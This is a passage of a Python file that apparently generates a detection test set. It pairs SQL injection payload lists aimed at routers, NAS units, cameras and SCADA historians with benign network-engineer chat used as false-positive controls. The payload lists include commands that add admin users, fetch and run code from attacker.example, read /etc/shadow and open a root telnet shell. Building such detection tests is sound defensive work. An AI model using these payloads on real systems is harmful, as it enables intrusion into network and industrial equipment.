    "'; exec master.dbo.xp_cmdshell 'net user ops P@ssw0rd1 /add';--",
    "'; exec xp_cmdshell 'powershell -c iwr http://attacker.example/a.ps1|iex';--",
    "'; exec sp_addlogin 'ops','Passw0rd';exec sp_addsrvrolemember 'ops','sysadmin';--",
    "'; exec master..xp_regread 'HKEY_LOCAL_MACHINE','SYSTEM\\CurrentControlSet\\Services\\lanmanserver"
    "\\parameters','nullsessionshares';--",
    "'; declare @o int; exec sp_oacreate 'wscript.shell',@o out; exec sp_oamethod @o,'run',null,'cmd /c calc';--",
    "'; exec sp_executesql N'select @@version';--",
    "'; exec msdb.dbo.sp_start_job 'HistorianBackup';--",
    "'; exec master..xp_servicecontrol 'stop','MSSQLSERVER';--",
    "'; exec xp_cmdshell 'sc stop WinCCHistorian';--",
    "1;exec('xp_cmdshell ''ipconfig /all''');--",
    "'; exec xp_cmdshell 'certutil -urlcache -f http://attacker.example/x.exe C:\\Windows\\Temp\\x.exe';--",
    "'; exec sp_password null,'x','sa';--",
    # firewall appliance / NAS (PostgreSQL)
    "'; copy (select 1) to program 'curl http://attacker.example/x|sh';--",
    "'; create or replace function sys(cstring) returns int as '/lib/x86_64-linux-gnu/libc.so.6','system' "
    "language c strict; select sys('id');--",
    "'; create function x() returns void as $$ import os; os.system('id') $$ language plpython3u; select x();--",
    "'; create table o(t text); copy o from program 'cat /etc/shadow'; select * from o;--",
    # NAS (MySQL with lib_mysqludf_sys): busybox opens a root shell on the box
    "' union select sys_eval('busybox telnetd -l /bin/sh -p 2323'),2#",
    "'; select sys_exec('wget -O /tmp/x http://attacker.example/mips; chmod +x /tmp/x; /tmp/x');#",
    "'; create function sys_exec returns int soname 'lib_mysqludf_sys.so';#",
    # TR-069 ACS (Oracle)
    "' || dbms_java.runjava('oracle/aurora/util/Wrapper /bin/sh -c id') || '",
    "'; begin dbms_xmlquery.newcontext('declare pragma autonomous_transaction; begin execute immediate "
    "''grant dba to public''; commit; end;'); end;--",
    "'; begin dbms_scheduler.create_job(job_name=>'j',job_type=>'EXECUTABLE',job_action=>'/bin/sh',"
    "number_of_arguments=>0,enabled=>true); end;--",
    # router / camera (SQLite with extension loading on): a library dropped through the firmware upload
    "'; select load_extension('/tmp/evil.so','sqlite3_extension_init');--",
    "1 and load_extension('/var/tmp/x.so')",
    # SCADA historian reached through the HMI's SOAP tag service (SQL Server)
    ('<?xml version="1.0"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body>'
     "<ReadTag><TagName>Pump1'; exec master..xp_cmdshell 'whoami';--</TagName></ReadTag></soap:Body>"
     "</soap:Envelope>",) + XML,
]

# having/group-by/order-by probing: the column count, and data read through a sort parameter
ORDER: list[Entry] = [
    # router DHCP lease table (SQLite): the sort column of the CGI
    "1 order by 1--",
    "1 order by 10--",
    "(case when (select substr(password,1,1) from users limit 1)='a' then mac else ip end)",
    "hostname,(select case when (1=1) then 1 else abs(-9223372036854775808) end)",
    # NAS (MySQL)
    "' order by 3#",
    "' order by 5-- -",
    "1 order by if(1=1,1,(select 1 union select 2))",
    "1 procedure analyse()",
    "1 order by extractvalue(1,concat(0x7e,version()))",
    "1 order by 1,2,3,4,5,6,7,8,9,10,11,12#",
    "' order by 1 desc limit 0,1#",
    "-1' group by 1 with rollup#",
    "1 limit 0,1 procedure analyse(extractvalue(1,concat(0x7e,version())),1)",
    "name,(select 1 from dual where sleep(5))",
    "1 group by concat(version(),floor(rand(0)*2)) having min(0)",
    # firewall appliance (PostgreSQL)
    "1 order by cast(version() as int)",
    "lastseen,(select cast(current_user as int))",
    "id,(select 1 from pg_sleep(5))",
    # HMI / historian (SQL Server)
    "1 group by 1,2,3--",
    "' group by UserName having 1=1--",
    "' having 1=1--",
    "' group by Users.UserName having 1=1--",
    "1 order by (select 1)--",
    "' group by Password having 1=1--",
    "' having 1=1 and @@version>0--",
    "1 order by (case when (system_user='sa') then 1 else 2 end)--",
    # smart-home portal (MySQL)
    "' group by 1 having count(*)>0#",
    "created_at,(select if(substr(token,1,1)='a',1,(select 1 union select 2)) from device_tokens limit 1)",
]

# like/between/in operators: conditions without '=' past a filter that blocks equals signs
OPERATORS: list[Entry] = [
    # router / camera (SQLite)
    "' or username like '%'--",
    "' or mac like '00:%'--",
    "' or username glob 'a*'--",
    "1 and sqlite_version() like '3.%'",
    "' or password like '____'--",
    # NAS / Zabbix (MySQL)
    "' or password like 'a%'#",
    "' or 1 between 0 and 2--",
    "1 and ascii(substr(user(),1,1)) between 97 and 122",
    "' or username in ('admin','root')--",
    "1 and (select count(*) from users where username like 'adm%')>0",
    "' or 'a' in ('a')--",
    "1 or 1 in (select 1)",
    "' or username regexp '^adm'#",
    "' or password rlike '^[a-f]'#",
    "1 and substring(version(),1,1) between '0' and '9'",
    "' or username like binary 'admin'#",
    "' or 1 in (1,2,3)#",
    "' or exists(select 1 from users where username like '%adm%')#",
    # firewall appliance (PostgreSQL)
    "' or username similar to 'adm%'--",
    "' or username ~ '^ad'--",
    "' or username ilike 'ADMIN'--",
    "' or id not between 0 and 0--",
    # HMI / historian (SQL Server)
    "1 and (select top 1 Name from Users) like 'a%'--",
    "' or role not in ('guest')--",
    "' or userid between 1 and 99999--",
    # TR-069 ACS (Oracle)
    "' or upper(username) like 'ADMIN' escape '!'--",
    "' or (select count(*) from acs_users where password like '%') between 1 and 100--",
    # smart-home hub (MySQL), device list filter
    "' or serial not like 'x'#",
]

FAMILIES: list[tuple[str, str, list[Entry]]] = [
    ("sqli", "libinjection-sqli", LIBINJECTION),
    ("sqli", "sql-tautology-boolean", TAUTOLOGY),
    ("sqli", "sql-comment-sequence", COMMENT),
    ("sqli", "union-select", UNION),
    ("sqli", "stacked-queries", STACKED),
    ("sqli", "time-based-blind", TIME),
    ("sqli", "error-based", ERROR),
    ("sqli", "out-of-band", OOB),
    ("sqli", "information-schema-probing", CATALOG),
    ("sqli", "mysql-comment-obfuscation", MYCOMMENT),
    ("sqli", "function-based-probing", FUNCTION),
    ("sqli", "sql-authentication-bypass", AUTH),
    ("sqli", "nosql-injection", NOSQL),
    ("sqli", "hex-char-encoding", ENCODING),
    ("sqli", "stored-procedure-xp-cmdshell", PROC),
    ("sqli", "having-group-order-by-probing", ORDER),
    ("sqli", "like-between-in-operators", OPERATORS),
]
# sub-families whose fixed entries are goform logins or bracket operators written as `name=value`
RAW_KV_SUBS = {"sql-authentication-bypass", "nosql-injection"}


# ----------------------------------------------------------------------------------------------------------------
# Placements
class _Set(BlindSet):
    prefix = NAME
    families = FAMILIES
    raw_subs = RAW_KV_SUBS
    documents = True
    unique = True
    names = ["username", "ping_addr", "mac", "devname", "channel", "sid", "ssid", "host", "sort", "serial",
             "loginPwd", "filter"]
    rs_paths = ["/goform/formLogin", "/cgi-bin/login.cgi", "/cgi-bin/luci", "/boaform/admin/formPing", "/HNAP1/",
                "/api/v1/devices", "/", "/index.php"]
    rs_names = ["username", "ip", "id", "host", "name", "channel"]


SET = _Set()


def attacks() -> Iterator[dict[str, Any]]:
    return SET.attacks()


# ----------------------------------------------------------------------------------------------------------------
# Benign: network and facilities engineers in Slack about router and camera rollouts, firmware, VLANs, IP plans,
# port forwards, ping and traceroute output, LED codes; their bios, searches, vendor links, profiles, file names
CHAT = [
    "rolled 7.1.4 out to the 40 APs at LIS-02 last night, union hall branch is next week",
    "ping 10.20.0.1 from the core: 4 packets transmitted, 4 received, 0% packet loss, time 3004ms",
    "traceroute dies after hop 6 with * * *, the ISP drops ICMP there, TCP 443 gets through fine",
    "`show vlan brief | include 30` shows VLAN 30 (CCTV) on Gi1/0/1-24 like we planned",
    "nslookup cam-lobby-01.corp.example returns 10.30.4.21, DNS is fine, the camera just isn't answering",
    "port forward 8443 -> 192.168.1.20:443 is on the Fritz!Box at the Porto office, please don't delete it",
    "go to System > Backup/Restore, select config-2024-06-01.bin and hit Restore, then reboot",
    "LED blinks amber 3 times = firmware upload failed, per the quick start guide. Retrying over ethernet",
    "Axis cameras are on 10.12.220 now, the old 9.80 ones need the intermediate image first",
    "drop VLAN 99 from the trunk to SW-CORE-2 before Friday's change window",
    "can someone export the DHCP lease table ordered by MAC? I need to match it against the asset list",
    "the NAS keeps spinning down, the sleep timer was set to 10 minutes. bumped it to 60",
    "Hikvision NVR says 'Invalid username or password' after the update, the admin password was reset to default",
    "FYI the printers on floor 3 get their addresses from the 10.40.3.0/24 scope now, not static",
    "select the 5 GHz radio, set channel width to 40 MHz, apply. DFS channels keep hopping otherwise",
    "iptables -A INPUT -p tcp --dport 22 -s 10.0.0.0/8 -j ACCEPT then the drop rule, order matters",
    "new IP plan: 10.<site>.<vlan>.0/24, so 10.12.30.0/24 is CCTV at site 12",
    "router at the Leeds shop rebooted itself twice today, uptime 00:14:32, checking the PSU",
    "the Zabbix agent on the historian box is down again, 'ZBX_NOTSUPPORTED' on every item",
    "heads up: TR-069 is off on the ISP CPEs, the ACS was pushing a bad DNS config",
    "the 'union' VLAN name confused everyone, renaming it to STAFF-UNION-OFFICE",
    "ran `ping -c 100 -i 0.2 10.1.1.1` from the camera VLAN, 0 loss, avg 1.8 ms",
    "traceroute to 8.8.8.8: hop 3 is 100.64.0.1, so we're behind the ISP's CGNAT, no port forward possible",
    "UPnP is disabled on every router by policy, open the ports by hand and document them",
    "the goform login page on the old Tenda only works in Firefox, Chrome blocks mixed content",
    "cleared the ARP table and the camera came back: `clear arp-cache` then `ping 10.30.4.21`",
    "firmware for the NVR is NVR_V4.62.210_build240112.dav, staged on the file server",
    "PLC gateway at the pump station answers Modbus on 502 but the web UI on 80 is dead",
    "HMI shows 'Communication error 0x80004005' talking to the SQL historian, DB service was stopped",
    "order the new PoE switches with the 740 W budget, 24 cameras at 12.95 W each adds up",
    "the busybox on those cameras has no curl, use `wget -O - http://10.0.0.5/health` instead",
    "set the NTP server to 10.0.0.1 on all cameras, timestamps in the recordings were 3 hours off",
    "the smart-home hub in the demo room lost its Zigbee network after the 2.3.1 update",
    "UPS at the MDF is on battery, 47 min runtime left, power company says 30 min",
    "`show interfaces status | include notconnect` gives 11 free ports on SW-ACC-3",
    "between 02:00 and 04:00 UTC is our change window for the WAN routers",
    "SNMP community is not 'public' anymore, it's in the vault under network/snmp",
    "DHCP option 43 points the APs at the controller 10.0.10.5, that's how they find it",
    "remember to select 'Keep settings' when you flash the sysupgrade image on the OpenWrt boxes",
    "the Synology backup job failed with 'Insufficient space on the destination', cleared old versions",
    "VPN appliance is dropping IKE phase 1 with 'no proposal chosen', the branch uses AES-GCM now",
    "firewall rule 'allow cameras to NVR' has to go above the deny-any rule or nothing records",
    "who has the console cable? the stack master at DUB-01 lost its config after the power cut",
    "LED codes on the ONT: PON solid green, LOS off, that's good. LOS red means fibre problem",
    "the cameras' web UI still asks for Flash on the old firmware, use the RTSP stream meanwhile",
    "lighttpd on the NAS logs 'connection reset by peer' when the backup client times out",
    "moved the IoT stuff (TVs, hubs, the coffee machine) to VLAN 60 with client isolation on",
    "wrote a query for the asset DB: select hostname, ip from devices where site = 'LIS-02' order by ip;",
    "Cacti graphs for the core uplinks stopped at 03:10, poller hit the max runtime",
    "LibreNMS lists 214 devices, 9 down, most of them are the APs at the warehouse",
    "the set-top boxes in the lobby take their IP from the IPTV VLAN, multicast needs IGMP snooping on",
    "printer HP-F3-02 shows error 49.4C02, power cycling fixed it, ticket closed",
    "restore the backup from 2024-05-30, the one after that has the wrong VLAN on port 12",
    "ping works, traceroute works, but HTTP to the camera times out. MTU? path is 1500 all the way",
    "Network engineer, 12 years of Cisco and Juniper, now mostly SD-WAN and camera VLANs. CCNP.",
    "Facilities & building systems at the Porto campus: HVAC, access control, CCTV, the BMS nobody loves",
    "OT network engineer. PLCs, HMIs, historians, Modbus/TCP and too many serial-to-ethernet gateways",
    "I run the SOHO fleet: 300 branch routers, their firmware, and the backups nobody else remembers",
    "Wi-Fi and RF: site surveys, channel plans, 'it works near the window' is my favourite ticket",
    "Field tech for the camera rollout. If it has a PoE injector, I've probably carried it up a ladder",
    "home lab: OpenWrt on a Pi, a Synology, Home Assistant, three VLANs and a very patient family",
    "NOC, night shift. If your router blinks red at 3 am, I'm the one who picks up",
    "on-call this week for the WAN routers and the VPN appliances, page me if the tunnels drop",
    "the GoAhead web server on those DVRs is ancient, we're replacing them rather than patching",
    "firmware upload form on the switch only accepts .bin under 32 MB, the image is 34 MB, need the lite one",
    "nslookup -type=srv _sip._udp.corp.example answers with the SBC, the phones are the issue",
    "ping to 10.50.0.1 flaps: 64 bytes from 10.50.0.1: icmp_seq=12 ttl=63 time=187 ms, then timeouts",
    "HNAP on the D-Link was the vulnerable bit, we turned remote management off entirely",
    "the password for the printer's web admin is on the label under the tray, please change it on install",
    "the cameras with 'admin' / '12345' defaults are all in the report, 7 left at the old site",
    "having the same issue on the Ubiquiti controller: adoption stuck at 'Provisioning'",
    "like last time, the fix was to factory-reset the AP and adopt it again",
    "group the cameras by site and order by install date, then we can see which ones are out of warranty",
    "the historian's SQL Server Express DB hit 10 GB, the limit. archiving 2021 and 2022 tags",
    "sleep mode on the smart plugs kills the Zigbee mesh, disabled it on the repeaters",
]

SEARCHES = [
    "network engineer",
    "ping",
    "traceroute",
    "router",
    "LIS-02",
    "cam-lobby-01",
    "NVR",
    "VLAN 30",
    "firmware",
    "O'Neill",
    "D'Costa",
    "facilities porto",
    "OT network",
    "PLC gateway",
    "Synology",
    "union hall",
    "select",
    "order management",
    "backup restore",
    "10.30.4.21",
    "00:1A:2B:3C:4D:5E",
    "HMI",
    "SCADA",
    "camera rollout",
    "wifi survey",
    "busybox",
    "goform",
    "lighttpd",
    "TR-069",
    "smart home",
    "NOC night shift",
    "Modbus",
    "printer floor 3",
    "VPN appliance",
    "firewall",
    "Zabbix",
    "Cacti",
    "sleep timer",
    "between shifts",
    "like for like replacement",
]

URLS = [
    "https://www.tp-link.com/en/support/download/archer-ax55/",
    "https://www.synology.com/en-global/knowledgebase/DSM/help/DSM/AdminCenter/system_update",
    "https://www.axis.com/support/device-software",
    "https://www.hikvision.com/en/support/download/firmware/",
    "https://openwrt.org/docs/guide-user/installation/sysupgrade.cli",
    "https://help.ui.com/hc/en-us/articles/204909754-UniFi-Network-Troubleshooting-Device-Adoption",
    "https://www.zabbix.com/documentation/current/en/manual/config/items/itemtypes/snmp",
    "https://docs.librenms.org/Support/FAQ/",
    "https://www.cacti.net/info/documentation",
    "https://wiki.mikrotik.com/wiki/Manual:IP/Firewall/NAT",
    "https://kb.netgear.com/000059634/How-do-I-back-up-and-restore-my-router-configuration",
    "https://support.hp.com/us-en/document/ish_3932209-2342395-16",
    "https://www.broadband-forum.org/technical/download/TR-069.pdf",
    "https://www.home-assistant.io/integrations/recorder/",
    "https://learn.microsoft.com/en-us/sql/relational-databases/backup-restore/quickstart-backup-restore-database",
    "https://www.cisco.com/c/en/us/support/docs/lan-switching/vlan/10023-3.html",
    "https://192.168.1.1/cgi-bin/luci/admin/network/diagnostics",
    "http://10.30.4.21/doc/page/login.asp",
    "https://forum.openwrt.org/t/vlan-setup-on-dsa/12345",
    "https://www.fritz.com/en/service/knowledge-base/",
]

PROSE = [
    "Ping test from the branch router to HQ: 0% loss, avg 24 ms, max 61 ms",
    "Select the firmware file (.bin), click Upload, do not power off while the LED blinks",
    "Union Square store: replace the router, keep the WAN settings, restore config from backup",
    "Order by site, then by device type, in the camera inventory export",
    "Between 22:00 and 06:00 the lobby cameras record on motion only",
    "Firmware 4.62 for NVRs with serial numbers like DS-7608NI-*",
    "Traceroute from the camera VLAN to the NVR: 2 hops, as expected",
    "The printer reports 'Paper jam in tray 2' even when the tray is empty",
    "Port forward for the door intercom: TCP 5060 and UDP 10000-20000 to 10.70.1.9",
    "Group cameras by floor; having more than 12 per PoE switch needs the bigger budget",
    "Where do I find the backup of the old router's config? /configs/branch/leeds-rtr-2023.tar.gz",
    "Drop ship the replacement AP to the Porto office, the site contact is Ana",
    "Reset to defaults: hold the reset button for 10 s until the power LED blinks",
    "The HMI login says 'User not authorized for this area' for the night shift operators",
    "NAS RAID 5 rebuild at 43%, estimated 9 hours, don't reboot it",
    "Replace the smart-home hub in the demo room and re-pair the 14 sensors",
    "Sleep schedule for the lobby screens: off 23:00, on 06:30",
    "Error code E-204 on the access controller means the reader lost its bus connection",
    "The VPN appliance certificate expires on 2024-09-01, renew before the end of August",
    "Set-top boxes: factory reset, then select the IPTV profile and enter the room number",
    "IP plan for site 14: mgmt 10.14.1.0/24, users 10.14.10.0/23, CCTV 10.14.30.0/24",
    "Admin account on cameras: rename from 'admin', 16+ character password, save to the vault",
    "Insert the SD card before you enable local recording on the doorbell camera",
    "Update the asset table: serial, MAC, firmware and install date for every new device",
    "The router's diagnostics page lets you run ping and nslookup without SSH",
    "Like the previous rollout, we stage the switches in the lab before they go to site",
    "Historian query takes 40 s for one week of 1-second data, we need an index on the tag id",
    "Modbus register 40001 holds the tank level in tenths of a percent",
    "Please exec the change on SW-CORE-1 first, then SW-CORE-2 after we confirm HSRP failover",
    "The cloud portal shows the hub offline, but the hub's LED is solid blue, which means connected",
]

PROFILES = [
    ("Sean O'Connor", "Network Ops, Dublin DC1"),
    ("Priya D'Mello", "Facilities, Porto campus"),
    ("Union Hall Branch", "1 Union St, Leeds"),
    ("Select Networks Ltd", "Unit 4, Tech Park, Eindhoven"),
    ("Ana Router", "Rua do Ouro 17, Lisbon"),
    ("Mike Camera", "Station Rd 22, Bristol"),
    ("Order Desk", "Warehouse 2, Rotterdam"),
    ("Dr. Ping Li", "Lab 3, Singapore"),
    ("Grace Trace", "NOC, Manchester"),
    ("Sleepy Hollow Farm IoT", "Farm Rd 9, Tarrytown"),
    ("Having Smart Homes", "Oak Ave 5, Austin"),
    ("Between Rivers Water Co.", "Pump Station 3, Koblenz"),
    ("Like Minds AV", "Market St 8, Cork"),
    ("Char Electrical", "King St 12, Hamilton"),
    ("Hex Nut Industrial", "Industriestr. 40, Stuttgart"),
    ("Exec Offices (Floor 7)", "Tower B, Madrid"),
    ("Mongo Bay Resort", "Beach Rd 1, Goa"),
    ("Null Island Surveys", "0 Equator Way, Accra"),
    ("Table Mountain Security", "Long St 80, Cape Town"),
    ("Group Four Facilities", "Ring Rd 2, Nairobi"),
]

UPLOAD_NAMES = [
    "config-2024-06-01.bin",
    "leeds-rtr-2023.tar.gz",
    "backup_LIS-02_core.cfg",
    "NVR_V4.62.210_build240112.dav",
    "openwrt-23.05.3-ramips-mt7621-sysupgrade.bin",
    "AXIS_P3265_10_12_220.bin",
    "DS-2CD2143G2-I_firmware.zip",
    "synology_ds920_config.dss",
    "camera-inventory (site 12).xlsx",
    "ip-plan_v7 FINAL.xlsx",
    "vlan-map.drawio",
    "SW-CORE-1_running-config.txt",
    "ping_results_2024-06-03.txt",
    "traceroute-porto-to-hq.png",
    "LED_codes_quick_reference.pdf",
    "HMI_tags_export.csv",
    "historian_backup_2024-05-31.bak",
    "unifi_backup_7.4.162_20240601.unf",
    "fritzbox_7590_settings.export",
    "printer_F3-02_config.xml",
    "TR-069_ACS_profile_branch.xml",
    "homeassistant_backup_2024_06_02.tar",
    "O'Neill - site survey notes.docx",
    "firewall_rules_before_change.csv",
    "select_switches_quote.pdf",
]

BENIGN_HEADERS = [
    ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                   "Chrome/125.0.0.0 Safari/537.36 Edg/125.0.0.0"),
    ("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0"),
    ("User-Agent", "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                   "Version/17.5 Mobile/15E148 Safari/604.1"),
    ("User-Agent", "Wget/1.21.4"),
    ("User-Agent", "curl/8.5.0"),
    ("User-Agent", "Zabbix"),
    ("User-Agent", "python-requests/2.31.0"),
    ("Referer", "https://app.example.com/admin/users?sort=site&order=asc"),
    ("Referer", "https://www.synology.com/en-global/support/download"),
    ("Referer", "https://openwrt.org/toh/start"),
    ("Referer", "https://www.google.com/search?q=hikvision+nvr+invalid+username+or+password+after+update"),
    ("Referer", "https://app.example.com/admin/users/search?q=o%27neill"),
    ("X-Api-Version", "2024-06-01"),
    ("X-Request-Id", "9b2f7c1e-4a6d-4f3b-8e21-5c0d7a9f3b64"),
    ("Accept-Language", "pt-PT,pt;q=0.9,en;q=0.8"),
    ("Cookie", "session=abc123; site=LIS-02; sort=ip"),
    ("Cookie", "session=abc123; last_search=camera%20rollout; tz=Europe%2FLisbon"),
    ("Cookie", "session=abc123; filter=vlan%3A30; page_size=100"),
    ("X-Forwarded-For", "10.30.4.21"),
    ("If-Modified-Since", "Mon, 03 Jun 2024 08:00:00 GMT"),
]


def benign() -> Iterator[dict[str, Any]]:
    return SET.benign(NAME, CHAT, SEARCHES, URLS, PROSE, PROFILES, UPLOAD_NAMES, BENIGN_HEADERS)


if __name__ == "__main__":
    print_records(attacks(), benign())
